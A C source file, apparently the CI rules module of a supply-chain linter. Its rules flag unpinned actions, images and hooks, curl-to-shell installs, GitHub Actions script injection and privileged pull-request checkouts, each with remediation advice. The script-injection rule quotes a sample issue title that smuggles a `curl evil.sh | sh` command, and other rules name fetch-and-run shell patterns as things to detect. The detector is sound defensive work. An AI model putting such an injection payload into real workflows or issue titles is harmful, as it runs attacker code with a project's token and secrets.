/*
 * ci.c - WL5xx: CI and build files that pull code in unpinned, run downloads,
 * or expand attacker-controlled text into scripts. Judges facts_ci.h facts
 * only; package installs in commands are dependency facts judged by WL1xx.
 * Never parses bytes; every message names the specific reference.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "engine.h"
#include "facts_ci.h"
#include "facts_dep.h"

static const struct wl_rule ci_rules[] = {
	{
		"WL501", "unpinned-action",
		"GitHub Action or reusable workflow not pinned to a full commit SHA",
		"A `uses:` reference names an action or reusable workflow by a tag or branch. "
		"Tags and branches can be moved by whoever controls the repository (or steals its "
		"credentials): tj-actions/changed-files (March 2025) and aquasecurity/trivy-action "
		"(March 2026) had their tags force-pushed to malicious commits, and every workflow "
		"using the tag ran the attacker's code with the workflow's secrets. Only a full "
		"40-character commit SHA is immutable. Local actions (./path) and docker:// images "
		"pinned by @sha256 digest are pinned. First-party actions (actions/*, github/*) are "
		"reported at a lower level, not exempted.",
		"Pin the reference to the full commit SHA of the release you use, and keep the tag in "
		"a comment so humans and Dependabot/Renovate can still read and update it:\n\n"
		"```yaml\n- uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1\n```\n\n"
		"For a reusable workflow: `uses: org/repo/.github/workflows/build.yml@<40-hex sha> # v2.0.0`.\n"
		"Find the SHA with `git ls-remote https://github.com/OWNER/REPO refs/tags/v4.1.1` "
		"(for annotated tags use the `^{}` line).",
		829, WL_LEVEL_ERROR, 7.5, "very-high", "supply-chain,ci,github-actions",
	},
	{
		"WL502", "unpinned-container-image",
		"Container image pulled by tag instead of by digest",
		"A Dockerfile FROM (or COPY --from), a GitLab CI image:/services:, or a workflow "
		"container/services image names an image by tag. A tag is mutable: the registry "
		"owner, or anyone who compromises the account, can point it at a different image, "
		"and the next build silently runs it. Only `@sha256:<digest>` pins the content. "
		"`FROM scratch` and references to earlier build stages pull nothing and are not "
		"reported; a reference whose variable cannot be resolved is reported as a note.",
		"Pin the image by digest and keep the tag for readability:\n\n"
		"```dockerfile\nFROM python:3.11-slim@sha256:<64-hex digest>\n```\n\n"
		"```yaml\nimage: python:3.11-slim@sha256:<64-hex digest>\n```\n\n"
		"Get the digest with `docker buildx imagetools inspect python:3.11-slim` (or "
		"`crane digest python:3.11-slim`); let Dependabot or Renovate update it.",
		829, WL_LEVEL_WARNING, 6.5, "very-high", "supply-chain,containers",
	},
	{
		"WL503", "download-piped-to-interpreter",
		"Downloaded content is piped straight into a shell or interpreter",
		"A command downloads a script (curl, wget, ...) and feeds it to sh, bash, python or "
		"another interpreter without saving or verifying it (`curl URL | sh`, "
		"`bash <(curl URL)`, `sh -c \"$(curl URL)\"`). Whatever the server returns at that "
		"moment runs with the build's privileges and secrets; a compromised host, a CDN "
		"mistake or a changed installer changes the build with no trace in the repository.",
		"Download to a file, verify a checksum or signature you committed, then run it:\n\n"
		"```sh\ncurl -fsSLo install.sh https://example.com/install.sh\n"
		"echo \"<sha256>  install.sh\" | sha256sum -c -\nsh install.sh\n```\n\n"
		"Better: install the tool from a package manager with a pinned, hashed version, or "
		"vendor the installer at a reviewed commit.",
		494, WL_LEVEL_ERROR, 8.0, "high", "supply-chain,shell",
	},
	{
		"WL504", "download-then-execute",
		"A downloaded file is executed without a checksum or signature check",
		"A file is downloaded (curl -o, wget, curl > file) and later executed (sh file, "
		"./file, python file, source file) with no checksum or signature verification in "
		"between. This is `curl | sh` split over lines: the build runs whatever the server "
		"returned.",
		"Verify the download against a digest committed in the repository before running it:\n\n"
		"```sh\ncurl -fsSLo tool.sh https://example.com/tool.sh\n"
		"echo \"<sha256>  tool.sh\" | sha256sum -c -\nsh tool.sh\n```\n\n"
		"or pin a release artifact by version and hash (or use a package manager).",
		494, WL_LEVEL_ERROR, 7.5, "high", "supply-chain,shell",
	},
	{
		"WL505", "script-injection",
		"Attacker-controlled GitHub context expanded inside a script",
		"A `${{ ... }}` expression that an outsider controls (issue or pull-request titles and "
		"bodies, comments, review bodies, commit messages, branch names such as "
		"github.head_ref, ...) is expanded textually into a `run:` script, or into an action "
		"input that runs code (github-script `script`, yq `cmd`, azure/cli `inlineScript`, ...), "
		"before it runs: directly, or through an `env:` value, a step or job output or a matrix "
		"entry set from one (those are notes to review). A title like "
		"`a\"; curl evil.sh | sh; echo \"` becomes code running with the workflow's token "
		"and secrets.",
		"Never expand untrusted contexts inside the script. Pass them through an environment "
		"variable and quote the variable:\n\n"
		"```yaml\n- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo \"$TITLE\"\n```\n\n"
		"In a composite action, do the same with `${{ inputs.x }}`.",
		94, WL_LEVEL_ERROR, 9.1, "high", "ci,github-actions,injection",
	},
	{
		"WL506", "untrusted-checkout-in-privileged-workflow",
		"pull_request_target / workflow_run / issue_comment workflow checks out the pull request's code",
		"A workflow triggered by pull_request_target, workflow_run or issue_comment runs in the base "
		"repository's context with a write token and access to secrets. Checking out the "
		"pull request head (ref: github.event.pull_request.head.sha / head.ref, refs/pull/N, "
		"gh pr checkout) and then building or testing it runs the attacker's code with those "
		"privileges (a \"pwn request\").",
		"Use the unprivileged `pull_request` trigger for anything that runs the contributor's "
		"code. If a privileged step is needed (labelling, commenting), split it into a "
		"separate workflow that never checks out or executes pull-request code, or pass "
		"results through artifacts from a `pull_request` workflow.",
		829, WL_LEVEL_ERROR, 9.3, "high", "ci,github-actions",
	},
	{
		"WL507", "install-from-unhashed-requirements",
		"pip install -r FILE where FILE does not pin every package by hash",
		"A command installs from a requirements file (`pip install -r FILE`, `uv pip sync "
		"FILE`) that weaklink opened and found without hashes for every requirement (or "
		"that is not in the repository at all). Without `--hash=` on each line pip accepts "
		"whatever the index serves for the named versions. A file that is fully hashed (pip "
		"then runs in hash-checking mode) is not reported, with or without "
		"`--require-hashes` on the command line.",
		"Generate the file with hashes and install in hash-checking mode:\n\n"
		"```sh\npip-compile --generate-hashes requirements.in -o requirements.txt\n"
		"pip install --require-hashes -r requirements.txt\n```\n\n"
		"(or `uv pip compile --generate-hashes`, or `uv export --format requirements-txt` "
		"from a uv.lock).",
		494, WL_LEVEL_WARNING, 6.0, "high", "supply-chain,dependencies,ci",
	},
	{
		"WL508", "npm-install-in-build",
		"npm install in a build step instead of npm ci",
		"`npm install` without package arguments resolves ranges in package.json and may "
		"rewrite package-lock.json, so the build can get versions nobody reviewed. `npm ci` "
		"installs exactly what the committed lock file says (with its integrity hashes) and "
		"fails if the lock file is out of date.",
		"Use `npm ci` (add `--ignore-scripts` where install scripts are not needed) with a "
		"committed package-lock.json.",
		829, WL_LEVEL_WARNING, 5.0, "high", "supply-chain,ci,npm",
	},
	{
		"WL509", "unpinned-ci-include",
		"GitLab CI include or component not pinned to a commit",
		"A GitLab CI `include:` pulls pipeline configuration from another project, a remote "
		"URL or a CI/CD component by branch, tag or default branch. Whoever can push there "
		"can change what this pipeline runs, with this project's CI variables.",
		"Pin the include to a full commit SHA:\n\n"
		"```yaml\ninclude:\n  - project: group/ci-templates\n    ref: 5f1e0c3a9b2d4e6f8a0b1c2d3e4f5a6b7c8d9e0f  # v1.4.0\n"
		"    file: /templates/build.yml\n  - component: gitlab.com/org/comp/build@5f1e0c3a9b2d4e6f8a0b1c2d3e4f5a6b7c8d9e0f\n```\n\n"
		"For `remote:` includes, vendor the file into the repository or use a URL that "
		"contains a commit SHA.",
		829, WL_LEVEL_WARNING, 6.5, "high", "supply-chain,ci,gitlab",
	},
	{
		"WL510", "precommit-rev-branch",
		"pre-commit hook repository pinned to a branch",
		"A `.pre-commit-config.yaml` repository uses a branch name as its `rev:`. pre-commit "
		"then runs whatever the branch holds when the hook environment is (re)built, on every "
		"developer machine and CI job that runs the hooks.",
		"Pin `rev:` to a full commit SHA, keeping the tag in a comment:\n\n"
		"```yaml\n- repo: https://github.com/psf/black\n  rev: 2a1c67e0b2f81df602ec1f6e7aeb030b9709dc7c  # frozen: 24.2.0\n```\n\n"
		"`pre-commit autoupdate --freeze` writes exactly this form.",
		829, WL_LEVEL_ERROR, 7.0, "very-high", "supply-chain,pre-commit",
	},
	{
		"WL511", "precommit-rev-tag",
		"pre-commit hook repository pinned to a tag, not a commit",
		"A `.pre-commit-config.yaml` repository uses a tag as its `rev:`. Tags are better "
		"than branches but can be moved or re-created by the hook repository's owner (or an "
		"attacker holding their credentials); a commit SHA cannot.",
		"Run `pre-commit autoupdate --freeze`, which replaces each tag with its commit SHA "
		"and keeps the tag in a `# frozen: v1.2.3` comment:\n\n"
		"```yaml\n  rev: 2a1c67e0b2f81df602ec1f6e7aeb030b9709dc7c  # frozen: 24.2.0\n```",
		829, WL_LEVEL_NOTE, 3.5, "very-high", "supply-chain,pre-commit",
	},
};

/* Actions whose tags were force-pushed to malicious commits. */
static const struct {
	const char *repo;
	const char *incident;
} compromised_actions[] = {
	{"tj-actions/changed-files", "its tags were force-pushed to a credential-stealing commit in March 2025"},
	{"reviewdog/action-setup", "its v1 tag was pointed at a malicious commit in March 2025"},
	{"aquasecurity/trivy-action", "its tags were force-pushed to malicious commits in March 2026"},
};

static const char *ref_kind_word(enum wl_ref_kind k)
{
	switch (k) {
	case WL_REF_NONE: return "no version (the default branch)";
	case WL_REF_SHORT_SHA: return "an abbreviated commit";
	case WL_REF_TAG: return "a tag";
	case WL_REF_BRANCH: return "a branch";
	case WL_REF_DYNAMIC: return "an expression";
	default: return "a mutable reference";
	}
}

static int ieq_prefix(const char *s, const char *prefix)
{
	size_t n = strlen(prefix);
	return strncasecmp(s, prefix, n) == 0;
}

static void check_action(struct wl_ctx *ctx, const struct wl_fact *fact)
{
	const struct wl_action_ref *a = fact->data;
	struct wl_finding *f;
	size_t i;
	const char *ref = a->ref ? a->ref : "";
	if (a->ref_kind == WL_REF_SHA || a->ref_kind == WL_REF_LOCAL || a->ref_kind == WL_REF_DIGEST)
		return;
	switch (a->site) {
	case WL_ACTREF_STEP:
	case WL_ACTREF_REUSABLE:
		for (i = 0; i < WL_ARRAY_SIZE(compromised_actions); i++) {
			size_t rn = strlen(compromised_actions[i].repo);
			if (a->repo && ieq_prefix(a->repo, compromised_actions[i].repo) &&
			    (a->repo[rn] == '\0' || a->repo[rn] == '/')) {
				f = wl_report(ctx, WL501, &fact->loc,
					      "`%s` is a known-compromised action (%s) and is referenced by %s `%s`, "
					      "so the tag can point at the attacker's commit; pin a reviewed commit SHA "
					      "or replace the action",
					      a->repo, compromised_actions[i].incident, ref_kind_word(a->ref_kind), ref);
				wl_finding_level(f, WL_LEVEL_ERROR);
				wl_finding_key(f, "%s@%s", a->repo, ref);
				wl_finding_prop(f, "reference", "%s", a->text);
				return;
			}
		}
		if (a->ref_kind == WL_REF_DYNAMIC) {
			f = wl_report(ctx, WL501, &fact->loc,
				      "%s `%s` is chosen by an expression and cannot be checked to be a commit SHA",
				      a->site == WL_ACTREF_REUSABLE ? "reusable workflow" : "action", a->text);
			wl_finding_level(f, WL_LEVEL_NOTE);
		} else {
			const char *at = strrchr(a->text, '@');
			int base = at ? (int)(at - a->text) : (int)strlen(a->text);
			f = wl_report(ctx, WL501, &fact->loc,
				      "%s `%s` is pinned to %s%s%s%s, not a full commit SHA; pin it as "
				      "`uses: %.*s@<40-hex sha> # %s`",
				      a->site == WL_ACTREF_REUSABLE ? "reusable workflow" : "action", a->text,
				      ref_kind_word(a->ref_kind), *ref ? " `" : "", ref, *ref ? "`" : "",
				      base, a->text, *ref ? ref : "vX.Y.Z");
			if (a->first_party)
				wl_finding_level(f, WL_LEVEL_WARNING);
		}
		wl_finding_key(f, "%s@%s", a->repo ? a->repo : a->text, ref);
		wl_finding_prop(f, "reference", "%s", a->text);
		return;
	case WL_ACTREF_PRECOMMIT:
		if (a->ref_kind == WL_REF_TAG) {
			f = wl_report(ctx, WL511, &fact->loc,
				      "pre-commit repository %s is pinned to tag `%s`; tags can move, "
				      "use the commit SHA (`pre-commit autoupdate --freeze`)",
				      a->repo, ref);
		} else if (a->ref_kind == WL_REF_DYNAMIC) {
			return;
		} else {
			f = wl_report(ctx, WL510, &fact->loc,
				      "pre-commit repository %s is pinned to %s `%s`; pin `rev:` to a "
				      "commit SHA (`pre-commit autoupdate --freeze`)",
				      a->repo, ref_kind_word(a->ref_kind), ref);
		}
		wl_finding_key(f, "%s@%s", a->repo, ref);
		return;
	case WL_ACTREF_GITLAB_INCLUDE:
		if (a->ref_kind == WL_REF_DYNAMIC) {
			f = wl_report(ctx, WL509, &fact->loc,
				      "include `%s` is chosen by a variable and cannot be checked to be pinned",
				      a->text);
			wl_finding_level(f, WL_LEVEL_NOTE);
		} else if (!a->ref && !strstr(a->text, "://")) {
			f = wl_report(ctx, WL509, &fact->loc,
				      "include of project `%s` has no `ref:`, so it follows that project's default "
				      "branch; pin `ref:` to a commit SHA",
				      a->text);
		} else if (!a->ref) {
			f = wl_report(ctx, WL509, &fact->loc,
				      "remote include `%s` names no commit, so what it contains can change at any time; "
				      "vendor the file or use a URL with a commit SHA in it",
				      a->text);
		} else {
			f = wl_report(ctx, WL509, &fact->loc,
				      "include `%s` is pinned to %s%s%s%s, not a commit SHA", a->text,
				      ref_kind_word(a->ref_kind), *ref ? " `" : "", ref, *ref ? "`" : "");
		}
		wl_finding_key(f, "%s@%s", a->repo ? a->repo : a->text, ref);
		return;
	}
}

static void check_image(struct wl_ctx *ctx, const struct wl_fact *fact)
{
	const struct wl_image_ref *im = fact->data;
	struct wl_finding *f;
	if (im->pinned || im->scratch || im->stage)
		return;
	if (im->unresolved) {
		f = wl_report(ctx, WL502, &fact->loc,
			      "%s image `%s` depends on a variable with no default, so its pinning cannot be checked",
			      im->origin, im->text);
		wl_finding_level(f, WL_LEVEL_NOTE);
	} else {
		f = wl_report(ctx, WL502, &fact->loc,
			      "%s image `%s`%s%s%s is pulled by %s, not by digest; pin it as `%s%s%s@sha256:<digest>`",
			      im->origin, im->text, im->written ? " (from `" : "", im->written ? im->written : "",
			      im->written ? "`)" : "", im->tag ? "tag" : "its default tag (latest)", im->name,
			      im->tag ? ":" : "", im->tag ? im->tag : "");
	}
	wl_finding_key(f, "%s", im->text);
}

static void check_shell(struct wl_ctx *ctx, const struct wl_fact *fact)
{
	const struct wl_shell_fact *s = fact->data;
	struct wl_finding *f;
	switch (s->kind) {
	case WL_SHELL_PIPE_TO_INTERPRETER:
		f = wl_report(ctx, WL503, &fact->loc, "%s pipes a download%s%s into %s: `%s`", s->origin,
			      s->url ? " from " : "", s->url ? s->url : "",
			      s->interpreter ? s->interpreter : "an interpreter", s->command);
		wl_finding_key(f, "%s|%s", s->url ? s->url : s->command, s->interpreter ? s->interpreter : "");
		break;
	case WL_SHELL_DOWNLOAD_EXEC:
		f = wl_report(ctx, WL504, &fact->loc,
			      "%s runs `%s`, downloaded%s%s on line %u, without verifying a checksum or signature",
			      s->origin, s->file, s->url && *s->url ? " from " : "", s->url ? s->url : "",
			      s->download_line);
		wl_finding_key(f, "%s|%s", s->file, s->url ? s->url : "");
		break;
	case WL_SHELL_NPM_INSTALL:
		f = wl_report(ctx, WL508, &fact->loc, "%s uses `%s`; use `npm ci` to install exactly the lock file",
			      s->origin, s->command);
		wl_finding_key(f, "npm install");
		break;
	case WL_SHELL_INSTALL_FROM_FILE:
		break; /* judged in finish(), once every requirements file is known */
	case WL_SHELL_DOWNLOAD_LOAD:
		break; /* rules/flow.c */
	case WL_SHELL_HUB_DOWNLOAD:
		break; /* the id's organisation: rules/hub.c */
	}
}

static void check_ci(struct wl_ctx *ctx, const struct wl_fact *fact)
{
	const struct wl_ci_fact *c = fact->data;
	struct wl_finding *f;
	if (c->kind == WL_CI_SCRIPT_INJECTION) {
		if (c->via && c->weak)
			f = wl_report(ctx, WL505, &fact->loc,
				      "`%s` expands `%s`, %s, into a %s: review that it cannot carry outside text, "
				      "or pass it through `env:` and use \"$VAR\" instead",
				      c->expr, c->context, c->via, c->where);
		else if (c->via)
			f = wl_report(ctx, WL505, &fact->loc,
				      "`%s` expands `%s`, %s, attacker-controlled, into a %s; pass it through `env:` "
				      "and use \"$VAR\" instead",
				      c->expr, c->context, c->via, c->where);
		else if (c->weak)
			f = wl_report(ctx, WL505, &fact->loc,
				      "`%s` expands the caller-supplied %s into a %s: safe only while every caller "
				      "passes a trusted value; pass it through `env:` and use \"$VAR\" instead",
				      c->expr, c->context, c->where);
		else
			f = wl_report(ctx, WL505, &fact->loc,
				      "`%s` expands attacker-controlled %s into a %s; pass it through `env:` and use "
				      "\"$VAR\" instead",
				      c->expr, c->context, c->where);
		/* the values come from callers or dispatchers, who mostly pass
		 * literals: a note to review, not an alarm (0 of 28 were exploitable
		 * on the real-world suite) */
		if (c->weak)
			wl_finding_level(f, WL_LEVEL_NOTE);
		wl_finding_key(f, "%s|%s", c->context, c->where);
	} else if (c->kind == WL_CI_UNTRUSTED_CHECKOUT) {
		f = wl_report(ctx, WL506, &fact->loc,
			      "%s workflow checks out the pull request's code (`%s`) with the base repository's "
			      "token and secrets",
			      c->trigger ? c->trigger : "privileged", c->expr);
		wl_finding_key(f, "%s|%s", c->trigger ? c->trigger : "", c->expr);
	}
}

static void ci_check(struct wl_ctx *ctx, const struct wl_fact *fact)
{
	switch (fact->kind) {
	case WL_FACT_ACTION_REF: check_action(ctx, fact); break;
	case WL_FACT_IMAGE_REF: check_image(ctx, fact); break;
	case WL_FACT_SHELL: check_shell(ctx, fact); break;
	case WL_FACT_CI: check_ci(ctx, fact); break;
	default: break;
	}
}

/* The requirements manifest fact for a path, from the dependency scanners. */
static const struct wl_manifest *find_requirements(const struct wl_fact *const *facts, size_t n,
						   const char *path)
{
	size_t lo = 0, hi = n;
	/* facts are sorted by path: binary search for the first fact of `path` */
	while (lo < hi) {
		size_t mid = lo + (hi - lo) / 2;
		const char *p = facts[mid]->loc.path ? facts[mid]->loc.path : "";
		if (strcmp(p, path) < 0)
			lo = mid + 1;
		else
			hi = mid;
	}
	for (; lo < n && facts[lo]->loc.path && strcmp(facts[lo]->loc.path, path) == 0; lo++) {
		const struct wl_manifest *m;
		if (facts[lo]->kind != WL_FACT_MANIFEST)
			continue;
		m = facts[lo]->data;
		if (m->kind == WL_MANIFEST_REQUIREMENTS || m->kind == WL_MANIFEST_LOCK)
			return m;
	}
	return NULL;
}

static void ci_finish(struct wl_ctx *ctx, const struct wl_fact *const *facts, size_t n)
{
	size_t i, k;
	for (i = 0; i < n; i++) {
		const struct wl_shell_fact *s;
		const struct wl_manifest *m = NULL;
		const char *path = NULL;
		struct wl_finding *f;
		if (facts[i]->kind != WL_FACT_SHELL)
			continue;
		s = facts[i]->data;
		if (s->kind != WL_SHELL_INSTALL_FROM_FILE)
			continue;
		for (k = 0; k < s->npaths && !m; k++) {
			m = find_requirements(facts, n, s->paths[k]);
			path = s->paths[k];
		}
		if (!m && s->require_hashes)
			continue; /* --require-hashes: pip refuses any requirement without a hash */
		if (!m) {
			f = wl_report(ctx, WL507, &facts[i]->loc,
				      "%s installs from `%s`, which is not a requirements file in this repository, "
				      "so its pinning and hashes cannot be checked",
				      s->origin, s->file);
			wl_finding_level(f, WL_LEVEL_NOTE);
			wl_finding_key(f, "%s", s->file);
			continue;
		}
		if (m->ndeps == 0 || m->nhashed >= m->ndeps)
			continue; /* fully hashed (or empty): pip runs in hash-checking mode */
		f = wl_report(ctx, WL507, &facts[i]->loc,
			      "%s installs from %s, where %d of %d requirements carry no --hash%s",
			      s->origin, path, m->ndeps - m->nhashed, m->ndeps,
			      s->require_hashes ? " (--require-hashes will make this install fail)" : "");
		wl_finding_key(f, "%s", path);
		wl_finding_prop(f, "requirements", "%s", path);
	}
}

const struct wl_rule_module wl_rules_ci = {
	.name = "ci",
	.rules = ci_rules,
	.nrules = WL_ARRAY_SIZE(ci_rules),
	.facts = WL_FACT_BIT(WL_FACT_ACTION_REF) | WL_FACT_BIT(WL_FACT_IMAGE_REF) |
		 WL_FACT_BIT(WL_FACT_SHELL) | WL_FACT_BIT(WL_FACT_CI) | WL_FACT_BIT(WL_FACT_MANIFEST),
	.cross = WL_FACT_BIT(WL_FACT_ACTION_REF) | WL_FACT_BIT(WL_FACT_IMAGE_REF) |
		 WL_FACT_BIT(WL_FACT_SHELL) | WL_FACT_BIT(WL_FACT_CI) | WL_FACT_BIT(WL_FACT_MANIFEST),
	.check = ci_check,
	.finish = ci_finish,
};
